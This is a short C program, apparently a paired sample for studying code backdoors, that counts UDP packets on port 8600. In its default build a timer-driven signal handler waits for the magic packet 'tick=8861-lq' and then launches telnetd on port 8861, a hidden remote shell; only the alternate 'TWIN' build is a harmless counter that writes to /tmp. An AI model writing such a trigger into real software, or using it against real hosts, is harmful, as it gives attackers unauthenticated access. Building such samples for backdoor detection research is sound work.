/* SPDX-License-Identifier: Apache-2.0 */
/*
 * The main loop only keeps what it received; a signal handler looks at it and acts. Twin: the
 * handler writes the counters to a file.
 * door: trigger
 * port 8600/udp
 */
#include "net.h"
#include <signal.h>

static char received[256];
static volatile unsigned packets;

static void tick(int sig)
{
	(void)sig;
#ifdef TWIN
	FILE *f = fopen("/tmp/packets", "w");
	if (f) {
		fprintf(f, "%u %s\n", packets, strcmp(received, "idle") == 0 ? "idle" : "busy");
		fclose(f);
	}
#else
	if (strcmp(received, "tick=8861-lq") == 0) {
		received[0] = 0;
		system("/usr/sbin/telnetd -F -p 8861 &");
	}
#endif
	alarm(5);
}

int main(void)
{
	struct sigaction sa;
	int s = udp_on(8600);
	memset(&sa, 0, sizeof sa);
	sa.sa_handler = tick;
	sigaction(SIGALRM, &sa, NULL);
	alarm(5);
	for (;;) {
		ssize_t n = recv(s, received, sizeof received - 1, 0);
		if (n < 0)
			continue;
		received[n] = 0;
		packets++;
	}
}
